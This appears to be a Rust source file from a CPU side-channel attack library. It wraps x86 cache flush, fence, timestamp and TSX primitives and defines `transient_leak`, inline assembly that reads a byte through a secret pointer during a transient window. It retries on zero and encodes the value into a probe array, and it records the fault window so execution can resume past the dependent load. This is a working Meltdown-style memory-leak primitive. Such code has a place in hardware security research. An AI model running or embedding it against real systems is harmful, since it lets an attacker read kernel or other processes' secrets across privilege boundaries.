use crate::platform::{Platform, ZeroGuard};
use crate::{flush, lfence, maccess, mfence, rdtsc_nofence};

use core::arch::asm;
use core::sync::atomic::{AtomicUsize, Ordering};
use cpuid::Features;

/// Bounds of the transient window in [`X86Platform::transient_leak`]: the first
/// instruction that may fault and the resume point past the dependent load.
/// Zero until the sequence has run once.
pub(crate) static WINDOW_START: AtomicUsize = AtomicUsize::new(0);
pub(crate) static WINDOW_END: AtomicUsize = AtomicUsize::new(0);

pub(crate) fn leak_window() -> Option<(usize, usize)> {
    let start = WINDOW_START.load(Ordering::SeqCst);
    let end = WINDOW_END.load(Ordering::SeqCst);
    if start == 0 || end <= start {
        None
    } else {
        Some((start, end))
    }
}

const XBEGIN_STARTED: u32 = !0;

#[derive(Debug, Clone, Copy)]
pub struct X86Platform {
    features: Features,
}

impl X86Platform {
    pub fn new() -> Self {
        X86Platform {
            features: Features::detect(),
        }
    }

    pub fn features(&self) -> Features {
        self.features
    }
}

impl Default for X86Platform {
    fn default() -> Self {
        Self::new()
    }
}

impl Platform for X86Platform {
    unsafe fn flush(&self, p: *const u8) {
        unsafe { flush(p) }
    }

    fn store_fence(&self) {
        mfence()
    }

    fn serialize(&self) {
        lfence()
    }

    fn read_cycles(&self) -> u64 {
        unsafe { rdtsc_nofence() }
    }

    unsafe fn load(&self, p: *const u8) {
        unsafe { maccess(p) }
    }

    fn supports_transactions(&self) -> bool {
        self.features.rtm
    }

    unsafe fn transactional_region(&self, body: &mut dyn FnMut()) -> bool {
        let status: u32;
        // An abort rolls back to the fallback label with the abort status in eax.
        unsafe {
            asm!(
                "xbegin 2f",
                "2:",
                inout("eax") XBEGIN_STARTED => status,
                options(nostack),
            );
        }
        if status != XBEGIN_STARTED {
            return false;
        }
        body();
        unsafe { asm!("xend", options(nostack)) };
        true
    }

    // Never inlined: the window bounds must be the same for every caller.
    #[inline(never)]
    unsafe fn transient_leak(&self, secret: *const u8, probe: *const u8, shift: u32, guard: ZeroGuard) {
        // The window is published before it opens so a fault on the secret read
        // can be resumed past the dependent load. `shl` by a nonzero count sets
        // ZF from the product, which is what the retry branch tests.
        unsafe {
            asm!(
                "lea {scratch}, [rip + 2f]",
                "mov qword ptr [rip + {start}], {scratch}",
                "lea {scratch}, [rip + 4f]",
                "mov qword ptr [rip + {end}], {scratch}",
                "2:",
                "movzx {value:e}, byte ptr [{secret}]",
                "shl {value}, cl",
                "jnz 3f",
                "test {retries}, {retries}",
                "jz 3f",
                "dec {retries}",
                "jmp 2b",
                "3:",
                "mov {scratch}, qword ptr [{probe} + {value}]",
                "4:",
                secret = in(reg) secret,
                probe = in(reg) probe,
                in("cl") (shift as u8),
                retries = inout(reg) u64::from(guard.retries()) => _,
                value = out(reg) _,
                scratch = out(reg) _,
                start = sym WINDOW_START,
                end = sym WINDOW_END,
                options(nostack),
            );
        }
    }
}
